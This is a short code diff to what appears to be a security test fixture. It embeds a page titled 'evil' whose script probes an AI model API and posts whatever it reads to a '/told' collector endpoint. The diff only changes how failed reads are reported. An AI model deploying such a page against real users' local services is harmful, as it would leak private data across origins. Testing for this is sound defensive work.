@@ -29,7 +29,9 @@ PAGE = """<!doctype html><title>evil</title>
 const body = JSON.stringify({model: "swarm", messages: [{role: "user", content: "fetch"}], max_tokens: 1})
 const tell = (what) => fetch("/told", {method: "POST", body: what})
 const read = async (name, tried) => {
-  try { const got = await tried(); await tell(name + ": " + (got || "nothing")) } catch (e) { await tell(name + ": nothing") }
+  let got = ""
+  try { got = await tried() } catch (e) {}
+  await tell(name + ": " + (got || "nothing"))
 }
 const text = async (url, options) => (await fetch(url, options)).text()
 const post = (more) => ({method: "POST", body, ...more})
